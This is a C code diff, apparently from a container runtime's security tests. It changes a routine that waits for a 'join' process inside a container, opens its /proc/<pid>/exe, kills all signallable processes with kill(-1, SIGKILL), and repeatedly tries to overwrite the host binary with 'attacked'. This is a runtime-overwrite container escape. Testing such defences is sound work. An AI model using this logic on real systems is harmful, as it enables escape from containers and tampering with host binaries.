@@ -5,6 +5,7 @@
 #include <fcntl.h>
 #include <glob.h>
 #include <linux/magic.h>
+#include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -68,18 +69,24 @@ static int runtime(void)
     return access(format("/proc/%d/exe", pid), W_OK) == 0 || errno == ETXTBSY ? 0 : -1;
 }
 
-/* 39: the attack makes join run itself inside, where it reads a FIFO while its file is opened. */
+/*
+ * 39: the attack makes join run itself inside, opens its file while it waits there, and ends it.
+ * Without a file to find, the attack waits until join has surely begun, and ends all that run.
+ */
 static int joining_runtime(void)
 {
-    int fifo = open("/hold/here/pid", O_RDWR), file = -1;
+    int file = -1;
 
     puts("ready");
     fflush(stdout);
-    for (int i = 0; i < 300 && file < 0; i++) {
+    for (int i = 0; i < 1000 && file < 0; i++) {
+        pid_t pid = find_running(host.argument);
+
         usleep(10000);
-        file = open(format("/proc/%d/exe", find_running(host.argument)), O_PATH);
+        file = pid < 0 ? -1 : open(format("/proc/%d/exe", pid), O_PATH);
     }
-    if (write(fifo, "\n", 1) < 0 || file < 0) /* join goes on, and ends */
+    kill(-1, SIGKILL);
+    if (file < 0)
         return stopped("not found");
     for (int i = 0; i < 1000; i++) {
         if (overwrite(format("/proc/self/fd/%d", file), "attacked") == 0)
